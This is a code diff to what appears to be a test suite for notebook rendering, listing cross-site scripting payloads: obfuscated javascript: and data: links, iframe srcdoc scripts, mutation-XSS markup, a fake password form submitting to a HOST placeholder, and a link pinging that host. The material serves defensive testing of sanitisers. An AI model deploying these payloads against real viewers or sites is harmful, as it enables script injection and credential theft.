@@ -14,7 +14,8 @@ PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+M8AAAMBAQD
 
 def showing(kind: str, text: str, **metadata: object) -> str:
     """Return a cell that shows a text as what it is not."""
-    return f"from IPython.display import display\ndisplay({{{kind!r}: {text!r}, 'text/plain': 'x'}}, raw=True, metadata={metadata!r})"
+    data = {kind: text, "text/plain": "x"}
+    return f"from IPython.display import display\ndisplay({data!r}, raw=True, metadata={metadata!r})"
 
 
 def markdown(text: str, **fields: object) -> dict:
@@ -88,8 +89,9 @@ ATTACKS = (
         "A link may lead to a script, if it is not looked at closely.",
         after=(
             markdown(
-                f"[a](javascript:{PLANT}) [b](JaVaScRiPt:{PLANT}) [c](java\tscript:{PLANT}) [d](&#106;avascript:{PLANT})\n"
-                f"[e](data:text/html,{SCRIPT}) [f](vbscript:x) <javascript:{PLANT}> [g]: javascript:{PLANT}\n\n[h][g]\n\n"
+                f"[a](javascript:{PLANT}) [b](JaVaScRiPt:{PLANT}) [c](java\tscript:{PLANT})\n"
+                f"[d](&#106;avascript:{PLANT}) [e](data:text/html,{SCRIPT}) [f](vbscript:x) <javascript:{PLANT}>\n"
+                f"[g]: javascript:{PLANT}\n\n[h][g]\n\n"
                 f"[i](<javascript:{PLANT}>) [j](\x01javascript:{PLANT}) ![k](javascript:{PLANT})"
             ),
         ),
@@ -138,7 +140,7 @@ ATTACKS = (
         after=(
             markdown(f'<iframe srcdoc="<script>parent.{PLANT}</script>"></iframe><iframe src="{HOST}"></iframe>'),
             markdown(
-                f'<form action="{HOST}"><input name="password" autofocus onfocus="{PLANT}"><button>Log in</button></form>'
+                f'<form action="{HOST}"><input name="password" autofocus onfocus="{PLANT}"><button>x</button></form>'
             ),
             markdown(f'<math><mtext><table><mglyph><style><img src=x onerror="{PLANT}">'),
             markdown(f'<a href="#" id="x" name="getElementById" target="_blank" ping="{HOST}">x</a>'),
